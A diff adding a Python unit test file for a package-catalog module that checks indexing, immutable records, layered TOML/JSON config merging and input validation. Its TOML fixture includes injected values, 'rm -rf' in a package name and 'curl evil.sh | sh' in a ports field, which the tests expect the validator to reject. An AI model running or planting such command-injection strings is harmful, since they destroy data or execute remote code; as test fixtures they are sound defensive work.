@@ -0,0 +1,168 @@
+import os
+import sys
+import json
+import tempfile
+import unittest
+from unittest.mock import patch
+
+# Add src execution path
+sys.path.append(os.path.abspath(os.path.join(os.path.dirname(__file__), '..', 'src')))
+
+import catalog
+from catalog import Catalog, AppRecord
+from apps import APPS_CATEGORIES, get_catalog
+
+CATEGORIES = {
+    "Terminal": {
+        "Kitty": {"pkg": "kitty", "source": "pacman", "tier": "God Tier", "description": "Terminal"},
+        "Ghostty": {"pkg": "ghostty-bin", "source": "aur", "description": "Terminal"},
+    },
+    "Gaming": {
+        "Steam": {"pkg": "steam", "source": "pacman", "ports": ["27036/tcp"]},
+        "Kitty Again": {"pkg": "kitty", "source": "pacman"},
+    },
+}
+
+class TestCatalog(unittest.TestCase):
+
+    def setUp(self):
+        self.catalog = Catalog(CATEGORIES)
+
+    def test_indexes(self):
+        self.assertEqual(len(self.catalog), 4)
+        self.assertEqual(self.catalog.categories(), ["Terminal", "Gaming"])
+        self.assertEqual([a.pkg for a in self.catalog.in_category("Gaming")], ["steam", "kitty"])
+        self.assertEqual([a.pkg for a in self.catalog.with_source("yay", "aur")], ["ghostty-bin"])
+        self.assertEqual([a.pkg for a in self.catalog.with_ports()], ["steam"])
+        # First listing of a pkg wins the pkg index
+        self.assertEqual(self.catalog.get("kitty").category, "Terminal")
+        self.assertIn("steam", self.catalog)
+        self.assertIsNone(self.catalog.get("missing"))
+
+    def test_records_are_immutable(self):
+        record = self.catalog.get("steam")
+        with self.assertRaises(AttributeError):
+            record.pkg = "other"
+        with self.assertRaises(AttributeError):
+            record.extra = 1
+        with self.assertRaises(TypeError):
+            self.catalog.by_pkg["other"] = record
+        self.assertFalse(hasattr(record, "__dict__"))
+
+    def test_to_dict_is_a_fresh_copy(self):
+        data = self.catalog.get("steam").to_dict()
+        self.assertEqual(data["id"], "steam")
+        self.assertEqual(data["ports"], ["27036/tcp"])
+        data["repo_info"] = {}
+        self.assertNotIn("repo_info", self.catalog.get("steam").to_dict())
+        self.assertNotIn("ports", self.catalog.get("kitty").to_dict())
+
+    def test_builtin_catalog(self):
+        builtin = get_catalog()
+        for apps in APPS_CATEGORIES.values():
+            for details in apps.values():
+                self.assertIn(details["pkg"], builtin)
+        self.assertIsInstance(builtin.get("kitty"), AppRecord)
+
+SYSTEM_TOML = """
+["Internal Tools"."Acme VPN"]
+pkg = "acme-vpn"
+source = "pacman"
+tier = "Required"
+description = "Company VPN client."
+ports = ["1194/udp"]
+
+["Internal Tools"."Broken Entry"]
+description = "No pkg, dropped"
+
+["Internal Tools"."Bad Source"]
+pkg = "acme-tools"
+source = "flatpak"
+
+["Internal Tools"."Bad Name"]
+pkg = "Acme Tools; rm -rf"
+source = "pacman"
+
+["Internal Tools"."Bad Ports"]
+pkg = "acme-agent"
+source = "pacman"
+ports = ["8080/tcp; curl evil.sh | sh"]
+
+["Internal Tools"."Ports String"]
+pkg = "acme-relay"
+source = "pacman"
+ports = "8080/tcp"
+
+["Internal Tools"."Bad Tier"]
+pkg = "acme-monitor"
+source = "pacman"
+tier = 1
+
+[Terminal.Kitty]
+pkg = "kitty"
+source = "pacman"
+tier = "Site Default"
+"""
+
+class TestCatalogFiles(unittest.TestCase):
+
+    def setUp(self):
+        self.tmp = tempfile.TemporaryDirectory()
+        self.system = os.path.join(self.tmp.name, "system")
+        self.user = os.path.join(self.tmp.name, "user")
+        os.makedirs(self.system)
+        os.makedirs(self.user)
+        self.cache_path = os.path.join(self.tmp.name, "cache", "catalog.cache")
+        with open(os.path.join(self.system, "10-site.toml"), "w") as f:
+            f.write(SYSTEM_TOML)
+        self.user_file = os.path.join(self.user, "mine.json")
+        with open(self.user_file, "w") as f:
+            json.dump({"Internal Tools": {"Acme VPN": {"pkg": "acme-vpn-beta", "source": "aur"}}}, f)
+
+    def tearDown(self):
+        self.tmp.cleanup()
+
+    def load(self):
+        return catalog.load_catalog(CATEGORIES, dirs=[self.system, self.user], cache_path=self.cache_path)
+
+    def test_layers_merge_by_priority(self):
+        merged = self.load()
+        # User overrides system, system overrides built-in
+        self.assertEqual(merged.get("acme-vpn-beta").source, "aur")
+        self.assertNotIn("acme-vpn", merged)
+        self.assertEqual(merged.get("kitty").tier, "Site Default")
+        self.assertEqual(merged.get("ghostty-bin").category, "Terminal")
+        self.assertEqual(merged.categories(), ["Terminal", "Gaming", "Internal Tools"])
+        # Entries without a pkg, with an unknown source, an invalid name, malformed ports
+        # or a non-string tier are dropped
+        self.assertEqual([a.name for a in merged.in_category("Internal Tools")], ["Acme VPN"])
+
+    def test_valid_entry(self):
+        base = {"pkg": "acme-vpn", "source": "pacman"}
+        self.assertTrue(catalog.valid_entry(dict(base, ports=["1194/udp", "1714-1764/tcp"])))
+        for details in [
+            dict(base, ports=["1194/udp --permanent"]),
+            dict(base, ports=["1194"]),
+            dict(base, ports="1194/udp"),
+            dict(base, ports=[1194]),
+            dict(base, tier=["Required"]),
+            dict(base, description=None),
+        ]:
+            with self.subTest(details=details):
+                self.assertFalse(catalog.valid_entry(details))
+
+    def test_compiled_cache_is_invalidated_by_mtime(self):
+        self.load()
+        with patch('catalog.read_catalog_file') as mock_read:
+            self.load()
+        mock_read.assert_not_called()
+
+        with open(self.user_file, "w") as f:
+            json.dump({"Tools": {"Extra": {"pkg": "extra-tool", "source": "pacman"}}}, f)
+        os.utime(self.user_file, ns=(0, 1))
+        merged = self.load()
+        self.assertIn("extra-tool", merged)
+        self.assertIn("acme-vpn", merged)
+
+if __name__ == '__main__':
+    unittest.main()